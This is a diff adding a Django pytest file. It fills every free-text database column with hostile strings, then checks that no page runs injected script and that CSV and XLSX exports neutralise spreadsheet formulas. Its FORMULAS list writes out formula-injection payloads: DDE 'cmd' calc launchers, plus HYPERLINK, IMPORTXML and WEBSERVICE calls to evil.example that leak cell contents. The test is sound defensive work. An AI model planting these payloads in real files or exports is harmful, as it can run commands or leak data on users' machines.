@@ -1,0 +1,223 @@
+"""Whatever stands in the database, no page runs it and no export does.
+
+Every column of free text of every table is filled with hostile text, past all forms; then everything that shows is
+opened. New rooms are covered by themselves.
+"""
+
+import csv
+import io
+import json
+import re
+import zipfile
+from collections import Counter
+from collections.abc import Callable, Sequence
+
+import pytest
+from django.apps import apps
+from django.db import DatabaseError, connection, models, transaction
+from django.test import Client
+
+from firmament.kernel.testing.fixtures import browser_of
+from firmament.lib.tabular.formulas import revealed
+from firmament.lib.tabular.reading import read_table
+from tests.test_bad_input_forms import FOR_MACHINES, OURS
+from tests.walking import Page, pages, read
+
+# Text that the program reads itself, and that no person can write.
+TECHNICAL = re.compile(
+    r"(^|_)(code|kind|key|hash|sha256|slug|timezone|locale|currency|media_type|password|scanner|lane|theme|wording"
+    r"|fingerprint|brand|state|list|format|power|rule|path|session|country|secret|message_id|field|job|domain|scopes?"
+    r"|verdict|event|salt|commitment|digest|error_class|label|type|target|channel)($|_)|email|_id$"
+)
+
+# 29 ways in which a cell begins that a spreadsheet program runs, or another's cleaning would miss.
+FORMULAS = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "@cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
+    '=IMPORTXML("http://evil.example","//a")',
+    '=WEBSERVICE("http://evil.example")',
+    '=DDE("cmd","/C calc","x")',
+    "=1+1\t",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1+1)",
+    "'=1+1",
+    "''=1+1",
+    '"=1+1',
+    '",=1+1,"',
+    ";=1+1",
+)
+OURS_IN = re.compile(r"1\+1|SUM\(|cmd|evil\.example")
+ACTIVE = re.compile(r"[\s\ufeff\u200b]*[=+\-@＝＋－＠]|[\t\r\n]")
+
+
+def columns() -> list[tuple[str, str, int]]:
+    """Table, column and length of everything a person may have written."""
+    return [
+        (model._meta.db_table, one.column, one.max_length or 4000)
+        for model in apps.get_models()
+        if model.__module__.startswith("firmament.")
+        for one in model._meta.local_fields
+        if isinstance(one, models.CharField | models.TextField)
+        and not one.choices
+        and not isinstance(one, models.SlugField)
+        and not TECHNICAL.search(one.column)
+    ]
+
+
+def fill(pick: Callable[[int], Sequence[str]], turn: int) -> int:
+    """Put text that fits into every row of every such column, at each turn the next; how many columns took it."""
+    filled = 0
+    for table, column, limit in columns():
+        texts = list(pick(limit))
+        try:
+            with transaction.atomic(), connection.cursor() as cursor:
+                cursor.execute(
+                    f'UPDATE "{table}" SET "{column}" ='
+                    " (%s::text[])[1 + (abs(hashtext(id::text || %s)::bigint) + %s) %% %s]",
+                    [texts, column, turn, len(texts)],
+                )
+                filled += cursor.rowcount > 0
+        except DatabaseError:
+            # Written once for all, or bound by a rule of the table: nobody can put it there either.
+            continue
+    return filled
+
+
+def packs(strings: Sequence[str], limit: int) -> list[str]:
+    """As many of them as fit, one behind the other."""
+    found, pack = [], ""
+    for text in (s.replace("\x00", "") for s in strings if s.isprintable() or "<" in s):
+        if len(text) > limit or "\ud800" <= max(text, default="") <= "\udfff":
+            continue
+        if len(pack) + len(text) + 1 > limit:
+            found.append(pack)
+            pack = ""
+        pack = f"{pack} {text}" if pack else text
+    return [*found, pack]
+
+
+@pytest.fixture
+def people(alice, ada, carla) -> dict[str, list[Client]]:
+    partner, admin = browser_of("alice@acme.example"), browser_of("ada@acme.example")
+    return {
+        "staff": [partner, admin],
+        "portal": [browser_of("carla@client.example")],
+        "person": [partner],
+        "public": [partner, Client()],
+    }
+
+
+@pytest.fixture
+def doors(alice) -> list[tuple[Page, str]]:
+    return [(page, page.url(alice)) for page in pages() if page.name not in FOR_MACHINES and page.has_example]
+
+
+def opened(people, page: Page, url: str):
+    """The first who is let in."""
+    for browser in people[page.entrance.door]:
+        response = browser.get(url)
+        if response.streaming:
+            list(response)
+        elif response.status_code == 200 and response["Content-Type"].startswith("text/html"):
+            return response
+        assert response.status_code < 500, (page.name, response.status_code)
+    return None
+
+
+@pytest.mark.parametrize("turn", range(3))
+def test_no_page_runs_what_stands_in_the_database(turn, people, doors, cases) -> None:
+    strings = [*json.loads((cases("strings") / "blns.json").read_text()), *OURS]
+    before: dict[str, Counter[str]] = {}
+    for page, url in doors:
+        response = opened(people, page, url)
+        if response is not None:
+            before[page.name] = read(response, url).tags
+    known = set().union(*before.values())
+
+    filled = fill(lambda limit: packs(strings, limit), turn)
+
+    faults, shown = [], 0
+    for page, url in doors:
+        response = opened(people, page, url)
+        if response is None:
+            assert page.name not in before, page.name
+            continue
+        seen = read(response, url)
+        words = response.content.decode()
+        shown += "x-canary" in words or "alert(" in words
+        faults += [f"{page.name}: {danger}" for danger in seen.dangers]
+        faults += [f"{page.name}: <{tag}>" for tag in set(seen.tags) - known]
+        if seen.tags["script"] != before[page.name]["script"]:
+            faults.append(f"{page.name}: another number of scripts")
+
+    print(f"{filled} columns filled, {len(before)} pages opened, {shown} show hostile text")
+    assert not faults, "\n".join(faults)
+    assert filled >= 20 and shown >= 25
+
+
+def test_no_cell_of_an_export_runs_and_each_reads_back_as_it_was(people, doors, alice) -> None:
+    lists = []
+    for page, url in doors:
+        response = opened(people, page, url)
+        if response is not None and 'name="export"' in response.content.decode():
+            keys = sorted(set(re.findall(r'name="columns" value="([^"]+)"', response.content.decode())))
+            lists.append((page, url, keys))
+    cells: Counter[str] = Counter()
+    # As often as there are forms: each has then stood in every column of every row.
+    for turn in range(len(FORMULAS)):
+        filled = fill(lambda limit: [text for text in FORMULAS if len(text) <= limit], turn)
+        for page, url, keys in lists:
+            query = "?" + "&".join(f"columns={key}" for key in keys)
+            # A workbook is read in a process of its own, which takes its time; it writes every text in the same way.
+            for kind in ("csv",) if turn % 6 else ("csv", "xlsx"):
+                response = exported(people, page, url + query, kind)
+                found = [text for text in inert_cells(response.content, kind) if OURS_IN.search(text)]
+                strange = [text for text in found if text not in FORMULAS]
+                assert not strange, (page.name, kind, strange)
+                cells.update(found)
+
+    print(
+        f"{len(lists)} lists, {filled} columns filled, {cells.total()} formulas of {len(cells)} forms read back"
+    )
+    assert len(lists) >= 4
+    assert set(cells) == set(FORMULAS), set(FORMULAS) - set(cells)
+
+
+def exported(people, page: Page, url: str, kind: str):
+    for browser in people[page.entrance.door]:
+        response = browser.post(url, {"export": kind})
+        if response.status_code == 200:
+            assert response["Content-Disposition"].startswith("attachment")
+            assert response["X-Content-Type-Options"] == "nosniff"
+            return response
+    raise AssertionError((page.name, kind))
+
+
+def inert_cells(content: bytes, kind: str) -> list[str]:
+    """What the export says, read again; no cell of it is one that a program would run."""
+    if kind == "csv":
+        raw = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+        assert not [cell for row in raw for cell in row if ACTIVE.match(cell)]
+        assert all(len(row) == len(raw[0]) for row in raw)
+        return [revealed(cell) for row in raw[1:] for cell in row]
+    with zipfile.ZipFile(io.BytesIO(content)) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+        assert "<f>" not in sheet and "<hyperlink" not in sheet
+        assert not [name for name in book.namelist() if "external" in name.lower()]
+    return [cell for row in read_table(content).rows for cell in row.cells]
